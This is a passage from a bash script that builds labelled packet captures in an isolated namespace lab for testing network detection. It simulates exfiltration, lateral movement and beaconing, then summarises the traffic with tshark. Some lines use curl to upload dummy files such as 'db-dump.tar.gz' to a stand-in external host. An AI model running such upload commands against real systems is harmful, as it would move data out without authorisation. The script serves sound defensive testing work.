  GEN_PIDS=("${SPIDS[@]:$i}")
}
benign_stop() { # let the generators finish what they are doing (bounded), then stop them
  local p i
  touch "$TMP/stop$N"
  for i in $(seq 90); do
    for p in "${GEN_PIDS[@]}"; do kill -0 "$p" 2>/dev/null && break; p=; done
    [ -z "$p" ] && break
    sleep 0.5
  done
  for p in "${GEN_PIDS[@]}"; do kill -TERM "$p" 2>/dev/null || true; wait "$p" 2>/dev/null || true; done
}
mark() { say "[$N] $*  ($(date +%T))"; }
atk() { # ns-suffix cmd...: an attack step, its own messages go to the scenario's log
  local ns=$1
  shift
  inns "$ns" "$@" 2>>"$TMP/s$N-attack.log"
}

scenario() { # n
  N=$1
  local name=${NAME[$1]} f=$TMP/${NAME[$1]}.pcap p
  lab_servers
  cap_start "$f"
  mark "${name}: capture started, benign lead-in"
  case $N in
  1) # benign only: negative control
    benign_start "$BENIGN"
    sleep "$BENIGN"
    ;;
  2) # slow exfiltration: ~40 MB at ~4 Mbit/s to a destination new to 10.78.1.10
    benign_start $((LEADIN + 200 + TAIL))
    sleep "$LEADIN"
    mark "attack: 10.78.1.10 uploads 40 MB to 198.51.100.77 at 500 KiB/s"
    atk c10 timeout 20 "$PY" "$LAB" resolve upload.storage-drop.example >/dev/null
    atk c10 timeout 200 curl -sSk --limit-rate 500k -T "$TMP/exfil40.bin" -o /dev/null \
      https://198.51.100.77/upload/q3-finance.7z
    mark "attack over, benign tail"
    sleep "$TAIL"
    ;;
  3) # burst exfiltration: 24 MB at full speed from 10.78.1.11 (small uploads only before)
    benign_start $((LEADIN + 60 + TAIL))
    sleep "$LEADIN"
    mark "attack: 10.78.1.11 uploads 24 MB to 198.51.100.77 at full speed"
    atk c11 timeout 20 "$PY" "$LAB" resolve upload.storage-drop.example >/dev/null
    atk c11 timeout 120 curl -sSk -T "$TMP/exfil24.bin" -o /dev/null \
      https://198.51.100.77/upload/db-dump.tar.gz
    mark "attack over, benign tail"
    sleep "$TAIL"
    ;;
  4) # lateral movement: 10.78.1.10 to three new internal peers, 10.78.1.11 to .20:22
    benign_start $((LEADIN + 180 + TAIL))
    sleep "$LEADIN"
    mark "attack: 10.78.1.10 -> 10.78.1.21:445"
    atk c10 timeout 60 "$PY" "$LAB" session --dst 10.78.1.21 --port 445 --rounds 6 --seed "$SEED"
    sleep 30
    mark "attack: 10.78.1.10 -> 10.78.1.22:3389"
    atk c10 timeout 60 "$PY" "$LAB" session --dst 10.78.1.22 --port 3389 --rounds 7 --seed "$SEED"
    sleep 30
    mark "attack: 10.78.1.10 -> 10.78.1.23:5985"
    atk c10 timeout 60 "$PY" "$LAB" session --dst 10.78.1.23 --port 5985 --rounds 5 --seed "$SEED"
    sleep 15
    mark "attack: 10.78.1.11 -> 10.78.1.20:22"
    atk c11 timeout 60 "$PY" "$LAB" session --dst 10.78.1.20 --port 22 --rounds 6 --seed "$SEED"
    mark "attack over, benign tail"
    sleep "$TAIL"
    ;;
  5) # HTTP beacon: 30 check-ins, 10 s +- 2 s, a new connection each
    benign_start $((LEADIN + 360 + TAIL))
    sleep "$LEADIN"
    mark "attack: 10.78.1.11 beacons to 203.0.113.66:8080 (30 x 10 s +- 2 s)"
    atk c11 timeout 420 "$PY" "$LAB" beacon-http --count 30 --period 10 --jitter 2 --seed "$SEED"
    mark "attack over, benign tail"
    sleep "$TAIL"
    ;;
  6) # keep-alive beacon: one TCP connection, 25 check-ins, 15 s +- 1 s
    benign_start $((LEADIN + 420 + TAIL))
    sleep "$LEADIN"
    mark "attack: 10.78.1.10 beacons on one connection to 203.0.113.66:443 (25 x 15 s +- 1 s)"
    atk c10 timeout 450 "$PY" "$LAB" beacon-keepalive --count 25 --period 15 --jitter 1 --seed "$SEED"
    mark "attack over, benign tail"
    sleep "$TAIL"
    ;;
  esac
  benign_stop
  sleep 2
  cap_stop
  for p in "${SPIDS[@]}"; do kill -TERM "$p" 2>/dev/null || true; done
  for p in "${SPIDS[@]}"; do wait "$p" 2>/dev/null || true; done
  lab_down "$N"
  # packets from different bridge ports can reach the tap a hair out of order
  if capinfos -o -M "$f" | grep -q 'Strict time order:.*False'; then
    [ "$HAVE_TSHARK" = 1 ] && mark "$(tshark -n -r "$f" -T fields -e frame.time_delta 2>/dev/null |
      awk '$1 < 0 { n++; if (-$1 > m) m = -$1 } END { printf "%d packets earlier than the one before (at most %.6f s)", n, m }')"
    mark "timestamps not in strict order: reordercap"
    reordercap "$f" "$f.sorted" >/dev/null && mv "$f.sorted" "$f"
  fi
  mv "$f" "$OUT/$name.pcap"
  mark "done: $OUT/$name.pcap"
}

# ---------------------------------------------------------------- run
mkdir -p "$OUT"
for n in $SCENARIOS; do lab_up "$n"; done
say "namespaces up: $(ip netns list | awk '{print $1}' | grep -c '^nvbeh') (nvbeh*), lead-in ${LEADIN}s, tail ${TAIL}s"
set -m                        # each scenario job gets a process group of its own
for n in $SCENARIOS; do
  ( trap - EXIT INT TERM; scenario "$n" ) </dev/null &
  SCEN_PIDS[n]=$!
done
set +m
fail=0
for n in $SCENARIOS; do
  if ! wait "${SCEN_PIDS[n]}"; then
    say "scenario $n (${NAME[n]}) FAILED; the last lines of its logs:"
    tail -n 20 "$TMP"/s"$n"-*.log >&2 2>/dev/null || true
    fail=1
  fi
  SCEN_PIDS[n]=
done

# ---------------------------------------------------------------- summary
gt() { # file label display-filter: attack SYNs and packets, seconds from the capture start
  local f=$1 label=$2 flt=$3
  [ "$HAVE_TSHARK" = 1 ] || return 0
  tshark -n -r "$f" -Y "$flt" -T fields -e frame.time_relative -e tcp.flags.syn -e tcp.flags.ack \
      -e frame.len -e ip.src 2>/dev/null | awk -v label="$label" -v src="${4:-}" '
    { if (first == "") first = $1; last = $1; pk++; by += $4
      if ($2 == 1 && $3 == 0) { syn++; if (fs == "") fs = $1; ls = $1 }
      if (src != "" && $5 == src) up += $4 }
    END { printf "    %-44s SYN x%d first %.1f s last %.1f s | packets %d, %.1f..%.1f s, %d bytes", label, syn, fs, ls, pk, first, last, by
          if (src != "") printf " (%d from %s)", up, src; printf "\n" }' >&2
}
periods() { # file label display-filter: intervals between the matching packets (check-ins)
  [ "$HAVE_TSHARK" = 1 ] || return 0
  tshark -n -r "$1" -Y "$3" -T fields -e frame.time_relative 2>/dev/null | awk -v label="$2" '
    { if (NR > 1) { d = $1 - p; s += d; n++; if (min == "" || d < min) min = d; if (d > max) max = d }; p = $1 }
    END { if (n) printf "    %-44s %d check-ins, interval mean %.2f s, min %.2f, max %.2f\n", label, n + 1, s / n, min, max }' >&2
}
for n in $SCENARIOS; do
  f=$OUT/${NAME[n]}.pcap
  [ -f "$f" ] || continue
  say "$(basename "$f"): $(capinfos -c -M "$f" | awk -F': *' '/Number of packets/ {print $2}') packets," \
    "$(capinfos -u -M "$f" | awk -F': *' '/duration/ {print $2}')," \
    "$(stat -c %s "$f") bytes, strict time order: $(capinfos -o -M "$f" | awk -F': *' '/order/ {print $2}')"
  case $n in
  2) gt "$f" "10.78.1.10 -> 198.51.100.77:443" "ip.addr==10.78.1.10 && ip.addr==198.51.100.77" 10.78.1.10 ;;
  3) gt "$f" "10.78.1.11 -> 198.51.100.77:443" "ip.addr==10.78.1.11 && ip.addr==198.51.100.77" 10.78.1.11 ;;
  4) for d in 10.78.1.21:445 10.78.1.22:3389 10.78.1.23:5985; do
       gt "$f" "10.78.1.10 -> $d" "ip.addr==10.78.1.10 && ip.addr==${d%:*} && tcp.port==${d#*:}" 10.78.1.10
     done
     gt "$f" "10.78.1.11 -> 10.78.1.20:22" "ip.addr==10.78.1.11 && ip.addr==10.78.1.20 && tcp.port==22" 10.78.1.11 ;;
  5) gt "$f" "10.78.1.11 -> 203.0.113.66:8080" "ip.addr==10.78.1.11 && ip.addr==203.0.113.66 && tcp.port==8080" 10.78.1.11
     periods "$f" "  SYNs 10.78.1.11 -> 203.0.113.66:8080" \
       "ip.src==10.78.1.11 && ip.dst==203.0.113.66 && tcp.flags.syn==1 && tcp.flags.ack==0" ;;
  6) gt "$f" "10.78.1.10 -> 203.0.113.66:443" "ip.addr==10.78.1.10 && ip.addr==203.0.113.66 && tcp.port==443" 10.78.1.10
     periods "$f" "  data 10.78.1.10 -> 203.0.113.66:443" \
       "ip.src==10.78.1.10 && ip.dst==203.0.113.66 && tcp.len>0" ;;
  esac
done
{
  echo "tool versions:"
  curl --version | head -1
  "$PY" --version
  "$PY" -c 'import ssl; print(ssl.OPENSSL_VERSION)'
  tcpdump --version 2>&1 | head -2
  ip -V
  echo "kernel $(uname -r)"
} >&2
[ "$fail" = 0 ] || { say "some scenarios failed"; exit 1; }
say "done; files in $OUT"
